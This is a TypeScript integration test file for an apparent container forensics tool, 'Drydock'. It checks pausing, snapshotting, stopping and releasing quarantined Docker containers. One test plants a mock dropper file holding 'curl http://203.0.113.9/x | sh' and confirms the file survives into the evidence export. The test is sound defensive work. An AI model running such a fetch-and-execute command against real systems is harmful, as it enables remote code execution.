import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { extract } from 'tar-stream';
import { BUSYBOX, docker, removeContainers, runContainer, startTestCore, type TestCore } from '../../helpers/docker';
import { engineSpan, followEngineEvents } from '../../helpers/engine-events';
import { waitFor } from '../../helpers/wait';
import { networksOf, networkWithSubnet, QUARANTINE_NET, removeNetworks, stateOf } from './fixture';

/** The file at path in a tar stream, read entry by entry (the tar is never held whole). */
async function fileInTar(stream: NodeJS.ReadableStream, wanted: string): Promise<string | undefined> {
  const tar = extract();
  let found: string | undefined;
  const done = new Promise<void>((resolve, reject) => {
    tar.on('entry', (header, entry, next) => {
      const chunks: Buffer[] = [];
      const keep = header.name.replace(/^\.?\//, '') === wanted;
      entry.on('data', (c: unknown) => {
        if (keep) chunks.push(c as Buffer);
      });
      entry.on('end', () => {
        if (keep) found = Buffer.concat(chunks).toString('utf8');
        next();
      });
      entry.resume();
    });
    tar.on('finish', resolve);
    tar.on('error', reject);
  });
  stream.pipe(tar);
  await done;
  return found;
}

describe('quarantine: pause, snapshot, stop', () => {
  let t: TestCore;
  const tag = `dd-qp-${process.pid}`;
  const net = `${tag}-net`;
  let prefix = '';
  const ids: string[] = [];
  const images: string[] = [];

  before(async () => {
    t = startTestCore('drydock-quarantine-modes');
    prefix = networkWithSubnet(net).prefix;
    await t.call('hosts.add', { name: 'local', url: 'unix:///var/run/docker.sock' });
    await t.call('evidence.case-create', { name: 'Modes case' });
  });

  after(async () => {
    for (const id of ids) await t.call('quarantine.release', { host: 'local', container: id }).catch(() => undefined);
    removeContainers(ids);
    for (const image of images) {
      try {
        docker(['rmi', '-f', image]);
      } catch {
        // Already gone.
      }
    }
    removeNetworks([net]);
    await t.close();
  });

  const run = (name: string, args: string[]) => {
    const id = runContainer(['--name', `${tag}-${name}`, ...args]);
    ids.push(id);
    return id;
  };

  it('pause freezes the processes; release unpauses', async () => {
    // A counter that ticks every 0.1 s, written atomically (rename) so a read never sees half a write.
    const id = run('pause', [
      '--network',
      net,
      BUSYBOX,
      'sh',
      '-c',
      'i=0; while true; do i=$((i+1)); echo $i > /tmp/tick.new; mv /tmp/tick.new /tmp/tick; sleep 0.1; done',
    ]);
    // Read from the host through the container's root (docker exec cannot enter a paused container).
    const pid = (JSON.parse(docker(['inspect', '-f', '{{json .State.Pid}}', id])) as number) || assert.fail('the counter container runs');
    const counter = (): number | undefined => {
      try {
        const n = Number(readFileSync(`/proc/${pid}/root/tmp/tick`, 'utf8').trim());
        return Number.isInteger(n) && n > 0 ? n : undefined;
      } catch {
        return undefined;
      }
    };
    const first = await waitFor(counter, { what: 'the counter to start' });
    await waitFor(() => (counter() ?? 0) > first, { what: 'the counter to tick before the pause' });

    const events = await followEngineEvents();
    try {
      const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['pause'] });
      assert.equal(record.steps[0]?.state, 'done');
      assert.equal(stateOf(id).Paused, true);
      assert.deepEqual(Object.keys(networksOf(id)), [net], 'pause alone leaves the networks alone');
      const paused = await events.next((e) => e.Actor.ID === id && e.Action === 'pause', { what: 'the engine to pause the container' });
      const before = counter();
      assert.ok(before !== undefined && before > first, `the counter reads while paused (${String(before)})`);
      // Ten ticks' worth by the engine's own clock: a running counter would have moved.
      const span = await engineSpan(events, 1, paused.timeNano);
      assert.ok(span >= 1e9, `the engine's clock moved 1 s (${span} ns)`);
      assert.equal(counter(), before, 'the counter does not move while paused');

      const released = await t.call('quarantine.release', { host: 'local', container: id });
      assert.equal(released.release?.steps.find((s) => s.name === 'unpause')?.state, 'done');
      assert.equal(stateOf(id).Paused, false);
      await events.next((e) => e.Actor.ID === id && e.Action === 'unpause', { what: 'the engine to unpause the container' });
      await waitFor(() => (counter() ?? 0) > before, { what: 'the counter to move again after release' });
    } finally {
      events.close();
    }
  });

  it('a container paused before quarantine stays paused after release', async () => {
    const id = run('prepaused', [BUSYBOX, 'sleep', '3600']);
    docker(['pause', id]);
    const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['isolate', 'pause'] });
    assert.equal(record.before.paused, true);
    assert.equal(record.steps.find((s) => s.mode === 'pause')?.state, 'skipped');
    assert.deepEqual(Object.keys(networksOf(id)), [QUARANTINE_NET], 'a paused container can still be isolated');
    await t.call('quarantine.release', { host: 'local', container: id });
    assert.equal(stateOf(id).Paused, true);
    assert.deepEqual(Object.keys(networksOf(id)), ['bridge'], 'back on the default bridge');
    docker(['unpause', id]);
  });

  it('snapshot commits a labelled image without pausing and stores a filesystem export that verifies', async () => {
    const id = run('snap', ['--network', net, BUSYBOX, 'sh', '-c', 'echo "curl http://203.0.113.9/x | sh" > /tmp/dropper.sh; sleep 3600']);
    await waitFor(
      () => {
        try {
          return docker(['exec', id, 'cat', '/tmp/dropper.sh']).includes('| sh');
        } catch {
          return undefined;
        }
      },
      { what: 'the dropped file written' },
    );
    const since = docker(['system', 'info', '-f', '{{json .SystemTime}}']).replace(/"/g, '');
    const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['snapshot'] });
    const snap = record.snapshot;
    assert.ok(snap?.imageId && snap.artifactId, JSON.stringify(record));
    images.push(snap.imageId);
    const labels = JSON.parse(docker(['image', 'inspect', '-f', '{{json .Config.Labels}}', snap.imageId])) as Record<string, string>;
    assert.equal(labels['drydock.forensic'], '1');
    assert.equal(labels['drydock.forensic.container'], id);
    assert.equal(labels['drydock.forensic.record'], record.id);
    assert.match(snap.imageRef, /^drydock-forensic\/dd-qp-\d+-snap:q-/);
    const pauses = docker([
      'events',
      '--since',
      since,
      '--until',
      String(Math.ceil(Date.now() / 1000) + 1),
      '--filter',
      `container=${id}`,
      '--filter',
      'event=pause',
      '--format',
      '{{.Action}}',
    ]);
    assert.equal(pauses, '', 'commit did not pause it');
    assert.equal(stateOf(id).Paused, false);
    assert.equal(stateOf(id).Running, true);

    const artifact = await t.call('evidence.artifact', { artifactId: snap.artifactId });
    assert.equal(artifact.kind, 'filesystem-export');
    assert.equal(artifact.status, 'complete');
    assert.equal(artifact.source.containerId, id);
    const content = await fileInTar(await t.core.evidence.openArtifact(snap.artifactId), 'tmp/dropper.sh');
    assert.equal(content, 'curl http://203.0.113.9/x | sh\n', 'the dropped file is in the export');
    const verify = await t.call('evidence.verify', {});
    assert.equal(verify.ok, true, JSON.stringify(verify.problems));
    assert.equal(docker(['ps', '-aq', '--filter', `label=drydock.forensic.export=${record.id}`]), '', 'the export container is gone');

    // A second apply does not snapshot again: it says there is nothing to do.
    await assert.rejects(
      t.call('quarantine.apply', { host: 'local', container: id, modes: ['snapshot'] }),
      /already quarantined by Drydock/,
    );
    assert.equal((await t.call('quarantine.status', { host: 'local', container: id }))[0]?.snapshot?.artifactId, snap.artifactId);
    const released = await t.call('quarantine.release', { host: 'local', container: id });
    assert.equal(released.state, 'released');
    assert.ok(docker(['image', 'inspect', '-f', '{{.Id}}', snap.imageId]), 'the forensic image is kept after release');
  });

  it('stop warns that memory is lost; release starts it again on the same static address', async () => {
    const ip = `${prefix}.50`;
    const id = run('stop', ['--network', net, '--ip', ip, '--network-alias', 'stopper', BUSYBOX, 'sleep', '3600']);
    const plan = await t.call('quarantine.plan', { host: 'local', container: id, modes: ['stop', 'isolate'] });
    assert.deepEqual(
      plan.steps.map((s) => s.mode),
      ['isolate', 'stop'],
      'steps run in a fixed order',
    );
    assert.ok(plan.steps.find((s) => s.mode === 'stop')?.notices.some((n) => n.severity === 'danger' && /memory is lost/i.test(n.text)));
    const record = await t.call('quarantine.apply', { host: 'local', container: id, modes: ['stop', 'isolate'] });
    assert.equal(record.state, 'quarantined');
    assert.equal(stateOf(id).Running, false);
    await t.call('quarantine.release', { host: 'local', container: id });
    assert.equal(stateOf(id).Running, true);
    const nets = networksOf(id);
    assert.deepEqual(Object.keys(nets), [net]);
    assert.equal(nets[net]!.IPAddress, ip);
    assert.ok(nets[net]!.Aliases?.includes('stopper'));
  });

  it('refuses what cannot be done before changing anything', async () => {
    const rm = run('autorm', ['--rm', BUSYBOX, 'sleep', '3600']);
    await assert.rejects(t.call('quarantine.apply', { host: 'local', container: rm, modes: ['stop'] }), /conflict: .*--rm/);
    assert.equal(stateOf(rm).Running, true);
    const hostNet = run('hostnet', ['--network', 'host', BUSYBOX, 'sleep', '3600']);
    const plan = await t.call('quarantine.plan', { host: 'local', container: hostNet, modes: ['isolate'] });
    assert.match(plan.steps[0]?.blocked ?? '', /host's network namespace/);
    await assert.rejects(
      t.call('quarantine.apply', { host: 'local', container: hostNet, modes: ['isolate', 'pause'] }),
      /unsupported: .*Nothing was changed/,
    );
    assert.equal(stateOf(hostNet).Paused, false);
    assert.deepEqual(await t.call('quarantine.status', { host: 'local', container: hostNet }), []);
  });

  it('warns that a Swarm task may be replaced by the orchestrator', async () => {
    const id = run('task', [
      '--label',
      'com.docker.swarm.task.id=abc123',
      '--label',
      'com.docker.swarm.service.name=shop_web',
      '--label',
      'com.docker.swarm.task.name=shop_web.1.abc123',
      BUSYBOX,
      'sleep',
      '3600',
    ]);
    const plan = await t.call('quarantine.plan', { host: 'local', container: id, modes: ['isolate'] });
    const warning = plan.notices.find((n) => n.severity === 'warning' && /Swarm service shop_web/.test(n.text));
    assert.ok(warning);
    assert.match(warning.text, /orchestrator may replace it/);
  });
});
